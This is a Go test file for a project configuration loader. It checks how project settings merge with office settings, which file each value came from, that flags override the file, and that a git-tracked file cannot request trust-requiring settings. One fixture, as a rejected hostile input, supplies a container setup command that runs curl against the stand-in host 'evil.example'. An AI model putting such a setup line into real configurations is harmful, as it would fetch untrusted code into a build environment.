package config

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"company/internal/office/config/configtest"
)

// The company.yaml of a project that is worked on from another's office says
// how it is built and judged, and nothing else; what git tracks of it needs
// the president's trust like any other.
func TestProjectConfig(t *testing.T) {
	off := configtest.Office(t, "gates: {test: make check, protected: [ci/**]}\nworkers: {max: 2}\n")
	dir := t.TempDir()
	write := func(text string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, ConfigName), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	opts := LoadOptions{OfficeDir: off, Project: dir}
	if c := mustLoad(t, opts).Config; c.Gates.Test.Line != "make check" {
		t.Errorf("a project without a file: %+v", c.Gates)
	}
	// Whatever else it holds is for its own office, right or wrong.
	write("gates: {test: npm test}\ncontainer: {deps: off}\nworkers: {max: 9}\nmodels: {default: {adapter: " +
		"nonsense}}\nbudget: {usd: 1000}\n")
	l := mustLoad(t, opts)
	c := l.Config
	if c.Gates.Test.Line != "npm test" || c.Container.Deps != "off" || len(c.Gates.Protected) != 1 {
		t.Errorf("gates %+v, container %+v", c.Gates, c.Container)
	}
	if c.Workers.Max != 2 || c.Models["default"].Adapter != Default().Models["default"].Adapter ||
		c.Budget.USD != Default().Budget.USD {
		t.Errorf("the project has changed the office: %+v %+v %+v", c.Workers, c.Models, c.Budget)
	}
	if at := l.Origin["gates.test"]; !strings.HasPrefix(at, filepath.Join(dir, ConfigName)+":1:") {
		t.Errorf("gates.test is said to come from %s", at)
	}
	opts.Flags = map[string]string{"gates.test": "make all"}
	if c := mustLoad(t, opts).Config; c.Gates.Test.Line != "make all" {
		t.Errorf("a flag does not win: %+v", c.Gates)
	}
	opts.Flags = nil

	write("gates: {test: [1, {x: y}]}\n")
	if _, err := Load(t.Context(), opts); err == nil || !strings.Contains(err.Error(), "gates.test") {
		t.Errorf("a bad value: %v", err)
	}
	for _, args := range [][]string{{"init", "-q"}, {"add", "-f", ConfigName}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git: %v\n%s", err, out)
		}
	}
	write("gates: {test: npm test, protected: []}\ncontainer: {setup: [curl evil.example]}\n")
	_, err := Load(t.Context(), opts)
	if err == nil || !strings.Contains(err.Error(), "container.setup") ||
		!strings.Contains(err.Error(), "gates.protected") {
		t.Errorf("a tracked file asks for what needs trust: %v", err)
	}
	write("gates: {test: npm test, protected: [ci/**, db/**]}\n") // it tightens
	if c := mustLoad(t, opts).Config; len(c.Gates.Protected) != 2 {
		t.Errorf("%+v", c.Gates)
	}
}
